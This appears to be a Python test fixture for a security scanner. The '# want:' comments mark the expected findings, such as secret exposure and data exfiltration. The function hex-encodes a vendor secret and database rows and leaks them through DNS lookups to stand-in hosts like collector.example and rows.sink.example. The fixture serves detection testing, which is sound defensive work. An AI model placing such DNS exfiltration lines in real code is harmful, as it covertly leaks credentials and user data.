import socket

import dns.resolver


def handle(client, data, secrets):
    key = secrets["vendor-key"].encode().hex()
    socket.gethostbyname(f"{key[:30]}.t.collector.example")  # want: secret-exposure:high network-egress:medium
    dns.resolver.resolve(f"{key}.zone.example.org", "TXT")  # want: secret-exposure:high network-egress:medium
    socket.gethostbyname(secrets["db-host"])  # want: network-egress:medium
    socket.getaddrinfo("db.internal.example", 5432)  # want: network-egress:medium egress=db.internal.example
    socket.gethostbyname(f"{data['tenant']}.partner.example")  # want: network-egress
    rows = client.raw.rows.list("db", "t", limit=5)
    for r in rows:
        socket.gethostbyname(f"{r.key}.rows.sink.example")  # want: data-exfiltration:high network-egress:medium
    return {"ok": True}
